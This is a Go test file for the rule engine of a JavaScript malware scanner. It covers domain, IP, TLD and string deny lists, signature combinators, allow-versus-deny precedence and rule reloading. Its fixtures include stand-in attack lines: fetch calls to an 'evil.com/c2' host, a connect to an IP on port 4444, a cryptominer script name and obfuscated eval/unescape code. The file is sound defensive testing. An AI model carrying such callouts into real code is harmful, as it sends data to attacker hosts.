package rules

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obs"
)

// mustCompile parses one rule file and compiles it alone into a set.
func mustCompileFile(t *testing.T, src string) *Set {
	t.Helper()
	f, err := Parse("test.json", []byte(src))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	set, err := Compile([]*File{f})
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}
	return set
}

func evalRaw(t *testing.T, s *Set, src string) Verdict {
	t.Helper()
	return s.Eval(context.Background(), Input{Name: "t.js", Raw: src, Normalized: src})
}

func TestDenyDomainMatching(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"deny": [{"id": "exfil-domain", "domains": ["evil.com"]}]
	}`)
	cases := []struct {
		src  string
		want Action
	}{
		{`fetch("https://evil.com/c2")`, ActionMalicious},
		{`fetch("https://cdn.evil.com/c2")`, ActionMalicious},
		{`fetch("https://EVIL.COM/c2")`, ActionMalicious},
		{`fetch("https://notevil.com/ok")`, ActionNone},
		{`fetch("https://evil.community/ok")`, ActionNone},
		{`var x = 1;`, ActionNone},
	}
	for _, c := range cases {
		v := evalRaw(t, set, c.src)
		if v.Action != c.want {
			t.Errorf("Eval(%q).Action = %v, want %v (hits %v)", c.src, v.Action, c.want, v.Hits)
		}
		tv := set.EvalText(context.Background(), c.src)
		if tv.Action != c.want {
			t.Errorf("EvalText(%q).Action = %v, want %v", c.src, tv.Action, c.want)
		}
	}
	v := evalRaw(t, set, `fetch("https://cdn.evil.com/c2")`)
	if len(v.Hits) != 1 || v.Hits[0].Rule != "exfil-domain" || v.Hits[0].Kind != HitDeny {
		t.Fatalf("hits = %+v", v.Hits)
	}
	if v.Hits[0].Evidence != "cdn.evil.com" {
		t.Errorf("evidence = %q, want the matched host", v.Hits[0].Evidence)
	}
	if v.Hits[0].Severity != SeverityHigh {
		t.Errorf("deny severity default = %q, want %q", v.Hits[0].Severity, SeverityHigh)
	}
}

func TestDenyIPAndTLDAndString(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"deny": [
			{"id": "c2-ip", "ips": ["10.9.8.7"]},
			{"id": "bad-tld", "tlds": [".xyz"]},
			{"id": "miner", "strings": ["coinhive.min"]}
		]
	}`)
	for src, rule := range map[string]string{
		`connect("10.9.8.7", 4444)`:      "c2-ip",
		`location = "http://drop.xyz/a"`: "bad-tld",
		`load("/libs/coinhive.min.js")`:  "miner",
	} {
		v := evalRaw(t, set, src)
		if v.Action != ActionMalicious || len(v.Hits) == 0 || v.Hits[0].Rule != rule {
			t.Errorf("Eval(%q) = %+v, want deny by %s", src, v, rule)
		}
	}
	// Out-of-range octets are not IPs; digit runs must not alias.
	if v := evalRaw(t, set, `var v = "310.9.8.777";`); v.Action != ActionNone {
		t.Errorf("out-of-range IP matched: %+v", v)
	}
}

func TestAllowShortCircuitAndPrecedence(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"allow": [{"id": "corp-cdn", "domains": ["assets.corp.example"]}],
		"deny": [{"id": "bad", "domains": ["evil.com"]}]
	}`)
	v := evalRaw(t, set, `load("https://assets.corp.example/app.js")`)
	if v.Action != ActionBenign || len(v.Hits) != 1 || v.Hits[0].Kind != HitAllow {
		t.Fatalf("allow verdict = %+v", v)
	}
	// Deny beats allow when both match.
	v = evalRaw(t, set, `load("https://assets.corp.example/app.js"); exfil("https://evil.com/x")`)
	if v.Action != ActionMalicious {
		t.Fatalf("deny should beat allow, got %+v", v)
	}
	if v.Hits[0].Kind != HitDeny {
		t.Errorf("deny hit should lead provenance, got %+v", v.Hits)
	}
	// EvalText never short-circuits benign: allow is decided with full context.
	tv := set.EvalText(context.Background(), `load("https://assets.corp.example/app.js")`)
	if tv.Action != ActionNone {
		t.Errorf("EvalText allow = %+v, want none", tv)
	}
}

func TestSignatureCombinators(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"signatures": [
			{"id": "sig-force", "severity": "high", "match": {
				"all": [
					{"substring": "unescape("},
					{"regex": "new\\s+Function"},
					{"not": {"substring": "jquery"}}
				]
			}},
			{"id": "sig-note", "severity": "low", "match": {"substring": "debugger"}}
		]
	}`)
	v := evalRaw(t, set, `var p = unescape('%61'); var f = new   Function(p);`)
	if v.Action != ActionMalicious {
		t.Fatalf("forcing signature should force malicious: %+v", v)
	}
	if len(v.Hits) != 1 || v.Hits[0].Rule != "sig-force" || v.Hits[0].Kind != HitSignature {
		t.Fatalf("hits = %+v", v.Hits)
	}
	// The not-branch suppresses the match.
	v = evalRaw(t, set, `// jquery\nvar p = unescape('%61'); var f = new Function(p);`)
	if v.Action != ActionNone {
		t.Errorf("not-combinator should suppress: %+v", v)
	}
	// Annotating severity records a hit but leaves the verdict alone.
	v = evalRaw(t, set, `debugger;`)
	if v.Action != ActionNone || len(v.Hits) != 1 || v.Hits[0].Rule != "sig-note" {
		t.Errorf("annotate = %+v", v)
	}
}

func TestSignatureRef(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"signatures": [
			{"id": "base-eval", "severity": "info", "match": {"substring": "eval("}},
			{"id": "eval-plus-escape", "severity": "critical", "match": {
				"all": [{"ref": "base-eval"}, {"substring": "unescape("}]
			}}
		]
	}`)
	v := evalRaw(t, set, `eval(unescape('%61%6c'))`)
	if v.Action != ActionMalicious {
		t.Fatalf("ref composition: %+v", v)
	}
	seen := map[string]bool{}
	for _, h := range v.Hits {
		seen[h.Rule] = true
	}
	if !seen["base-eval"] || !seen["eval-plus-escape"] {
		t.Errorf("both signatures should hit: %+v", v.Hits)
	}
}

func TestSignatureNormalizedView(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"deny": [{"id": "hidden-c2", "domains": ["evil.com"]}]
	}`)
	// The IOC appears only in the deobfuscated view.
	raw := `var h = "ev" + "il" + ".c" + "om";`
	norm := `var h = "evil.com";`
	v := set.Eval(context.Background(), Input{Raw: raw, Normalized: norm})
	if v.Action != ActionMalicious {
		t.Fatalf("normalized view should be matched: %+v", v)
	}
}

func TestPathPredicate(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"signatures": [{"id": "deep-call", "severity": "high", "match": {
			"path": {"node": "CallExpression", "min_count": 1}
		}}]
	}`)
	if !set.NeedsAST() {
		t.Fatal("path predicate should set NeedsAST")
	}
	src := `var x = unescape("%61"); eval(x);`
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	v := set.Eval(context.Background(), Input{Raw: src, Normalized: src, Prog: prog})
	if v.Action != ActionMalicious {
		t.Fatalf("path predicate should match a call-crossing path: %+v", v)
	}
	// Without an AST the path predicate cannot match.
	v = set.Eval(context.Background(), Input{Raw: src, Normalized: src})
	if v.Action != ActionNone {
		t.Errorf("no AST, no path match: %+v", v)
	}
	// An impossible min_count must not match.
	set2 := mustCompileFile(t, `{
		"version": 1,
		"signatures": [{"id": "deep-call", "severity": "high", "match": {
			"path": {"node": "CallExpression", "min_count": 100000}
		}}]
	}`)
	if v := set2.Eval(context.Background(), Input{Raw: src, Normalized: src, Prog: prog}); v.Action != ActionNone {
		t.Errorf("min_count should gate: %+v", v)
	}
}

func TestHitCapAndDedup(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"deny": [{"id": "multi", "domains": ["evil.com"], "strings": ["evil.com"]}]
	}`)
	v := evalRaw(t, set, `a("evil.com"); b("evil.com")`)
	if len(v.Hits) != 1 {
		t.Errorf("one rule, one hit: %+v", v.Hits)
	}
}

func TestNilSetIsInert(t *testing.T) {
	var s *Set
	if v := s.Eval(context.Background(), Input{Raw: "x"}); v.Action != ActionNone || v.Hits != nil {
		t.Fatalf("nil Eval = %+v", v)
	}
	if v := s.EvalText(context.Background(), "x"); v.Action != ActionNone {
		t.Fatalf("nil EvalText = %+v", v)
	}
	if s.Rules() != 0 || s.Files() != 0 || s.NeedsAST() {
		t.Fatal("nil accessors should be zero")
	}
}

func TestEvalMetrics(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"deny": [{"id": "m-rule", "domains": ["evil.com"]}]
	}`)
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	set.Eval(ctx, Input{Raw: `f("https://evil.com/")`})
	snap := reg.Snapshot()
	foundEval, foundHit := false, false
	for _, p := range snap.Counters {
		switch {
		case p.Name == EvalsMetric && p.Labels["outcome"] == "deny" && p.Value == 1:
			foundEval = true
		case p.Name == HitsMetric && p.Labels["rule"] == "m-rule" && p.Value == 1:
			foundHit = true
		}
	}
	if !foundEval || !foundHit {
		t.Fatalf("metrics missing: eval=%v hit=%v", foundEval, foundHit)
	}
}

func writeRuleFile(t *testing.T, dir, name, content string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestLoadDirMergesFiles(t *testing.T) {
	dir := t.TempDir()
	writeRuleFile(t, dir, "a.json", `{"version":1,"deny":[{"id":"a","domains":["a.evil"]}]}`)
	writeRuleFile(t, dir, "b.json", `{"version":1,"signatures":[{"id":"b","match":{"substring":"x"}}]}`)
	writeRuleFile(t, dir, "notes.txt", `not a rule file`)
	set, err := Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	if set.Files() != 2 || set.Rules() != 2 {
		t.Fatalf("Files=%d Rules=%d", set.Files(), set.Rules())
	}
}

func TestHolderReloadAndRejection(t *testing.T) {
	dir := t.TempDir()
	writeRuleFile(t, dir, "r.json", `{"version":1,"deny":[{"id":"d1","domains":["evil.com"]}]}`)
	h := NewHolder(dir, obs.NewRegistry())
	if h.Current() != nil {
		t.Fatal("no set before first reload")
	}
	info, err := h.Reload()
	if err != nil {
		t.Fatal(err)
	}
	if info.Gen != 1 || info.Rules != 1 || info.Reloads != 1 {
		t.Fatalf("info = %+v", info)
	}
	gen1 := h.Current()

	// A broken file must not displace the live set.
	writeRuleFile(t, dir, "r.json", `{"version":1,"deny":[{"id":`)
	if _, err := h.Reload(); err == nil {
		t.Fatal("broken file should fail reload")
	}
	if h.Current() != gen1 {
		t.Fatal("live set must survive a failed reload")
	}

	// A fixed file takes a new generation.
	writeRuleFile(t, dir, "r.json", `{"version":1,"deny":[{"id":"d2","domains":["worse.com"]}]}`)
	info, err = h.Reload()
	if err != nil {
		t.Fatal(err)
	}
	if info.Gen != 2 {
		t.Fatalf("gen = %d, want 2", info.Gen)
	}
	if h.Current() == gen1 {
		t.Fatal("reload should swap generations")
	}
}

func TestShadowValidationRejectsOverbroadDeny(t *testing.T) {
	dir := t.TempDir()
	// Denying "function" would flag essentially every script on the web.
	writeRuleFile(t, dir, "r.json", `{"version":1,"deny":[{"id":"fat-finger","strings":["function"]}]}`)
	h := NewHolder(dir, obs.NewRegistry())
	if _, err := h.Reload(); err == nil {
		t.Fatal("overbroad deny must be rejected by shadow validation")
	}
	if h.Current() != nil {
		t.Fatal("rejected set must not take traffic")
	}
	// A forcing signature matching benign code is rejected the same way.
	writeRuleFile(t, dir, "r.json", `{"version":1,"signatures":[{"id":"everything","severity":"critical","match":{"regex":"."}}]}`)
	if _, err := h.Reload(); err == nil {
		t.Fatal("overbroad forcing signature must be rejected")
	}
	// An annotating signature over common code is fine.
	writeRuleFile(t, dir, "r.json", `{"version":1,"signatures":[{"id":"fn","severity":"info","match":{"substring":"function"}}]}`)
	if _, err := h.Reload(); err != nil {
		t.Fatalf("annotating signature should pass shadow validation: %v", err)
	}
}

func TestShouldAlert(t *testing.T) {
	cases := []struct {
		hits []Hit
		want bool
	}{
		{nil, false},
		{[]Hit{{Rule: "a", Kind: HitAllow}}, false},
		{[]Hit{{Rule: "s", Kind: HitSignature, Severity: SeverityLow}}, false},
		{[]Hit{{Rule: "s", Kind: HitSignature, Severity: SeverityCritical}}, true},
		{[]Hit{{Rule: "d", Kind: HitDeny, Severity: SeverityHigh}}, true},
	}
	for _, c := range cases {
		if got := ShouldAlert(c.hits); got != c.want {
			t.Errorf("ShouldAlert(%+v) = %v", c.hits, got)
		}
	}
}
